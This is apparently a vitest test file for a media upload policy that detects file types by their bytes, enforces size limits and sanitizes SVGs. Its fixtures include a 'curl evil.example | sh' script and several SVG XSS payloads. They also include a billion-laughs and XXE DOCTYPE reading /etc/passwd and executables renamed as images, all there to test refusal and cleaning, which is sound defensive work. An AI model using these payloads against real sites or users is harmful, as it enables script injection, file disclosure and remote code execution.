import { fileTypeFromBuffer } from 'file-type'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'

import {
  ALLOWED_MIME_TYPES,
  MAX_UPLOAD_BYTES,
  sanitizeSvg,
  sniffUpload,
  withAllowedExtension,
} from '../../collections/Media/upload/policy'

// --- fixtures built from real bytes ----------------------------------------

const image = (format: 'jpeg' | 'png' | 'gif' | 'webp' | 'avif') =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#c33' } })
    .toFormat(format)
    .toBuffer()

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n' +
    'trailer <</Root 1 0 R>>\n%%EOF\n',
)

/** A CFB file: 512-byte header, then one directory sector with a root entry and `stream`. */
function cfb(stream: string): Buffer {
  const buf = Buffer.alloc(1024)
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(buf, 0)
  buf.writeUInt16LE(0x3e, 0x18) // minor version
  buf.writeUInt16LE(3, 0x1a) // major version 3: 512-byte sectors
  buf.writeUInt16LE(0xfffe, 0x1c) // little-endian
  buf.writeUInt16LE(9, 0x1e) // sector shift
  buf.writeUInt16LE(6, 0x20) // mini sector shift
  buf.writeUInt32LE(0, 0x30) // directory starts at sector 0
  const entry = (at: number, name: string, type: number) => {
    const n = Buffer.from(`${name}\u0000`, 'utf16le')
    n.copy(buf, at)
    buf.writeUInt16LE(n.length, at + 0x40)
    buf[at + 0x42] = type
  }
  entry(512, 'Root Entry', 5)
  entry(640, stream, 2)
  return buf
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc32 = (data: Buffer) => {
  let c = 0xffffffff
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff]! ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

/** A stored (uncompressed) ZIP with a real central directory. */
function zip(files: Record<string, string>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, text] of Object.entries(files)) {
    const nameBytes = Buffer.from(name)
    const data = Buffer.from(text)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt32LE(crc32(data), 14)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(data.length, 22)
    local.writeUInt16LE(nameBytes.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt32LE(crc32(data), 16)
    central.writeUInt32LE(data.length, 20)
    central.writeUInt32LE(data.length, 24)
    central.writeUInt16LE(nameBytes.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBytes, data)
    centrals.push(central, nameBytes)
    offset += local.length + nameBytes.length + data.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(Object.keys(files).length, 8)
  end.writeUInt16LE(Object.keys(files).length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

const DOCX = zip({
  '[Content_Types].xml':
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  'word/document.xml':
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>',
})

const MP4 = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from('ftypisom'),
  Buffer.from([0, 0, 2, 0]),
  Buffer.from('isommp42'),
  Buffer.from([0, 0, 0, 8]),
  Buffer.from('free'),
])

// EBML header whose DocType is "webm", then the start of a Segment.
const WEBM = Buffer.concat([
  Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f]),
  Buffer.from([0x42, 0x86, 0x81, 0x01, 0x42, 0xf7, 0x81, 0x01, 0x42, 0xf2, 0x81, 0x04, 0x42, 0xf3, 0x81, 0x08]),
  Buffer.from([0x42, 0x82, 0x84]),
  Buffer.from('webm'),
  Buffer.from([0x42, 0x87, 0x81, 0x04, 0x42, 0x85, 0x81, 0x02]),
  Buffer.from([0x18, 0x53, 0x80, 0x67, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
])

/** One beginning-of-stream Ogg page per packet (CRC left 0: detection does not check it). */
const oggPage = (serial: number, packet: Buffer) => {
  const header = Buffer.alloc(28)
  header.write('OggS', 0, 'latin1')
  header[5] = 0x02
  header.writeUInt32LE(serial, 14)
  header[26] = 1
  header[27] = packet.length
  return Buffer.concat([header, packet])
}
const pad = (id: string, length: number) => Buffer.concat([Buffer.from(id, 'latin1'), Buffer.alloc(length - id.length)])
const THEORA = pad('\x80theora\x03\x02\x01', 42)
const VORBIS = pad('\x01vorbis', 30)
const SKELETON = pad('fishead\x00', 64)

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])

const accepts = async (data: Buffer, filename: string, mimeType: string) => {
  const result = await sniffUpload({ data, filename })
  expect(result).toMatchObject({ ok: true, mimeType })
}

const refusal = async (data: Buffer, filename: string, declaredMimeType?: string) => {
  const result = await sniffUpload({ data, filename, declaredMimeType })
  if (result.ok) throw new Error(`expected ${filename} to be refused, got ${result.mimeType}`)
  return result
}

// --- tests ---------------------------------------------------------------

describe('sniffUpload accepts each allowed type from its bytes', () => {
  it.each([
    ['jpeg', 'image/jpeg'],
    ['png', 'image/png'],
    ['gif', 'image/gif'],
    ['webp', 'image/webp'],
    ['avif', 'image/avif'],
  ] as const)('%s made by sharp', async (format, mime) => {
    await accepts(await image(format), `photo.${format}`, mime)
  })

  it('PDF', () => accepts(PDF, 'brochure.pdf', 'application/pdf'))
  it('Word .doc (CFB with a WordDocument stream)', () => accepts(cfb('WordDocument'), 'letter.doc', 'application/msword'))
  it('Word .docx (ZIP with word/document.xml)', () =>
    accepts(DOCX, 'letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'))
  it('MP4', () => accepts(MP4, 'clip.mp4', 'video/mp4'))
  it('WebM', () => accepts(WEBM, 'clip.webm', 'video/webm'))
  it('Ogg with a Theora track', () => accepts(oggPage(1, THEORA), 'clip.ogv', 'video/ogg'))

  it('Ogg whose Theora track is announced after audio and Skeleton', async () => {
    const data = Buffer.concat([oggPage(1, SKELETON), oggPage(2, VORBIS), oggPage(3, THEORA)])
    expect((await fileTypeFromBuffer(data))?.mime).not.toBe('video/ogg')
    await accepts(data, 'clip.ogv', 'video/ogg')
  })

  it('covers every allowed type', () => {
    expect(ALLOWED_MIME_TYPES).toHaveLength(12)
  })

  it('decides on content: a PNG named .jpg is a PNG', async () => {
    await accepts(await image('png'), 'photo.jpg', 'image/png')
  })
})

describe('sniffUpload refuses by content', () => {
  it('an ELF executable renamed to .png', async () => {
    const r = await refusal(ELF, 'photo.png', 'image/png')
    expect(r.status).toBe(415)
    expect(r.message).toMatch(/^"photo\.png" is not an allowed file type: its content is an ELF executable \(application\/x-elf\), not an image\./)
  })

  it('a Windows executable renamed to .pdf', async () => {
    const r = await refusal(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), 'invoice.pdf')
    expect(r.message).toContain('a Windows executable (application/x-msdownload), not a PDF')
  })

  it('a shell script renamed to .jpg', async () => {
    const r = await refusal(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'cat.jpg')
    expect(r.message).toContain('its content is a script starting with "#!/bin/sh" (text/x-shellscript), not an image')
  })

  it('an HTML file named .png, with the full message', async () => {
    const html = Buffer.from('<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>')
    const r = await refusal(html, 'photo.png', 'image/png')
    expect(r).toEqual({
      ok: false,
      status: 415,
      message:
        '"photo.png" is not an allowed file type: its content is HTML (text/html), not an image. ' +
        'Allowed: JPEG, PNG, GIF, WebP, AVIF, SVG, PDF, Word (.doc), Word (.docx), MP4, WebM, Ogg video.',
    })
  })

  it('a ZIP that is not a docx', async () => {
    const r = await refusal(zip({ 'notes.txt': 'hello' }), 'report.docx')
    expect(r.status).toBe(415)
    expect(r.message).toContain('a ZIP archive that is not a Word document (application/zip), not a Word document')
  })

  it('a docx with VBA macros', async () => {
    const r = await refusal(
      zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', 'word/vbaProject.bin': 'x' }),
      'letter.docx',
    )
    expect(r.message).toContain('a Word document with macros')
  })

  it('a CFB container without a WordDocument stream (e.g. Excel or an MSI installer)', async () => {
    const r = await refusal(cfb('Workbook'), 'letter.doc')
    expect(r.message).toContain('an OLE/CFB container that is not a Word document (application/x-cfb)')
  })

  it('a truncated CFB header without throwing', async () => {
    const r = await refusal(cfb('WordDocument').subarray(0, 40), 'letter.doc')
    expect(r.message).toContain('not a Word document (application/x-cfb)')
  })

  it('audio-only Ogg, since it is not a video', async () => {
    const r = await refusal(oggPage(1, VORBIS), 'clip.ogg')
    expect(r.message).toContain('its content is Ogg without a video track (audio/ogg), not a video')
  })

  it('XML that is not an SVG, named .svg', async () => {
    const r = await refusal(Buffer.from('<?xml version="1.0"?><rss><channel/></rss>'), 'logo.svg')
    expect(r.message).toContain('XML without an <svg> root (application/xml), not an image')
  })

  it('an empty file with 400', async () => {
    expect(await refusal(Buffer.alloc(0), 'empty.png')).toMatchObject({ status: 400, message: expect.stringContaining('is empty') })
  })

  it('a file one byte over the limit with 413', async () => {
    const r = await refusal(Buffer.alloc(MAX_UPLOAD_BYTES + 1), 'big.mp4')
    expect(r).toEqual({
      ok: false,
      status: 413,
      message: '"big.mp4" is 30.1 MB; the limit is 30 MB. Compress or resize it and upload again.',
    })
  })
})

const DIRTY_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="alert(1)">' +
  '<script>alert(2)</script>' +
  '<a href="javascript:alert(3)"><rect id="box" x="10" y="10" width="30" height="30" fill="#08f"/></a>' +
  '<a xlink:href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;"><circle cx="70" cy="70" r="20" onclick="alert(5)"/></a>' +
  '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>' +
  '<use href="#box" x="50"/><use href="https://evil.example/sprite.svg#x"/>' +
  '</svg>'

describe('sanitizeSvg', () => {
  it.each([
    ['without a prolog', DIRTY_SVG],
    ['with an <?xml?> prolog', `<?xml version="1.0"?>\n${DIRTY_SVG}`],
    ['with a BOM, prolog, comment and plain DOCTYPE', `\uFEFF<?xml version="1.0" encoding="UTF-8"?><!-- by hand -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${DIRTY_SVG}`],
  ])('removes scripts, handlers and script URLs %s, keeping the shapes', (_, text) => {
    const { svg, removed } = sanitizeSvg(text)
    expect(svg.startsWith('<svg xmlns="http://www.w3.org/2000/svg"')).toBe(true)
    for (const gone of ['<?xml', 'DOCTYPE', '<script', 'alert', 'onload', 'onclick', 'javascript:', 'data:text/html', 'foreignObject', 'evil.example']) {
      expect(svg).not.toContain(gone)
    }
    expect(svg).toContain('viewBox="0 0 100 100"')
    expect(svg).toMatch(/<rect id="box" x="10" y="10" width="30" height="30" fill="#08f"\/>/)
    expect(svg).toMatch(/<circle cx="70" cy="70" r="20"\/>/)
    expect(svg).toContain('<use href="#box" x="50"/>')
    expect(removed).toEqual(
      expect.arrayContaining(['<script>', '<foreignObject>', 'onload="alert(1)" on <svg>', 'href="javascript:alert(3)" on <a>']),
    )
    expect(removed).not.toContain('<body>')
  })

  it('cuts out a DOCTYPE that declares entities instead of expanding them (billion laughs)', () => {
    const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('')
    const text = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol0 "lol">${lol}<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;&xxe;</text></svg>`
    const { svg, removed } = sanitizeSvg(text)
    expect(removed[0]).toBe('DOCTYPE with an internal subset (entity declarations)')
    expect(svg).toBe('<svg xmlns="http://www.w3.org/2000/svg"><text>&amp;lol9;&amp;xxe;</text></svg>')
  })

  it('removes animations that write script URLs and CSS that imports', () => {
    const { svg } = sanitizeSvg(
      '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style>' +
        '<a><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>' +
        '<rect style="fill:url(&quot;javascript:alert(1)&quot;)" width="1" height="1"/></svg>',
    )
    expect(svg).not.toMatch(/@import|javascript:|<animate|<set/)
    expect(svg).toContain('<rect width="1" height="1"/>')
  })

  it('returns no svg when there is no <svg> root', () => {
    expect(sanitizeSvg('<html><body><svg/></body></html>').svg).toBe('')
  })
})

describe('sniffUpload with SVG', () => {
  it('accepts an SVG with a prolog that file-type calls application/xml, returning cleaned bytes', async () => {
    const data = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${DIRTY_SVG}`)
    expect((await fileTypeFromBuffer(data))?.mime).toBe('application/xml')
    const result = await sniffUpload({ data, filename: 'logo.svg', declaredMimeType: 'image/svg+xml' })
    if (!result.ok) throw new Error(result.message)
    expect(result.mimeType).toBe('image/svg+xml')
    const cleaned = result.sanitized!.data.toString('utf8')
    expect(cleaned).not.toMatch(/<script|onload|javascript:/)
    expect(cleaned).toContain('<rect')
    expect(result.sanitized!.removed.length).toBeGreaterThan(0)
  })

  it('accepts a UTF-16 SVG and stores UTF-8', async () => {
    const data = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>', 'utf16le')])
    const result = await sniffUpload({ data, filename: 'icon.svg' })
    expect(result.ok && result.sanitized!.data.toString('utf8')).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>')
  })
})

describe('withAllowedExtension', () => {
  it.each([
    ['photo.JPG', 'image/jpeg', 'photo.JPG'],
    ['photo.jpeg', 'image/jpeg', 'photo.jpeg'],
    ['evil.html', 'image/png', 'evil.png'],
    ['report', 'application/pdf', 'report.pdf'],
    ['archive.tar.gz', 'video/mp4', 'archive.tar.mp4'],
  ] as const)('%s as %s -> %s', (name, mime, expected) => {
    expect(withAllowedExtension(name, mime)).toBe(expected)
  })
})
